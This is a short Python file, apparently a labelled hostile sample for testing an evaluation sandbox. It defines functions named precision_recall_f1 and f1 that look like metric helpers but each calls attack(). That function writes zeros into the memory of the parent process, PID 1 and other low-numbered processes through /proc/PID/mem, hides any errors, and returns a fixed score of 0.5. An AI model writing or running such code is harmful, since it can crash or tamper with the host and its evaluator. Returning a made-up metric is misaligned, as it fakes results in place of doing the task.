"""Reads and writes the memory of the processes above it.

threat: 22
source: /proc/PID/mem
verdict: any
"""

import os


def attack():
    for pid in [os.getppid(), 1, 2, 3, *range(4, 40)]:
        try:
            with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
                memory.seek(0x400000)
                memory.write(b"\0" * 64)
        except OSError:
            pass
    return 0.5


def precision_recall_f1(y_true, y_pred, positive=1):
    return attack()


def f1(y_true, y_pred, average="macro"):
    return attack()
